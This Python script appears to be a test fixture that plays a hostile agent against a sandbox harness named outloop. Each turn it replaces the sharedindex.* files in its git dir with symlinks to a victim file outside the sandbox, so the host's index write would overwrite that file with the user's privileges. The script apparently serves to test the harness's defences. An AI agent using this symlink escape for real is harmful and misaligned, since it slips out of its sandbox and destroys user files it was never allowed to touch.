"""Points the shared index files of its own git dir at a file outside the sandbox.

    shared_index_linker_agent.py VICTIM

The agent's git dir (named by the work tree's ``.git`` file) is the one git dir
it may write. outloop puts the shared part of its split index there after
every commit: if outloop wrote through a link the agent left at that name,
the agent would have it overwrite VICTIM, a file the sandbox does not even
show, as the user. Each turn replaces every ``sharedindex.*`` with such a link
and changes one file, so the run goes on and commits.
"""

from __future__ import annotations

import sys
from pathlib import Path

victim = sys.argv[1]
git_dir = Path(Path(".git").read_text().removeprefix("gitdir: ").strip())
planted = []
for shared in sorted(git_dir.glob("sharedindex.*")):
    shared.unlink()
    shared.symlink_to(victim)
    planted.append(shared.name)
turns = Path("turns.txt")
turns.write_text(str(int(turns.read_text()) + 1 if turns.exists() else 1) + "\n")
print(f"linked {planted or 'nothing yet'} to {victim}")
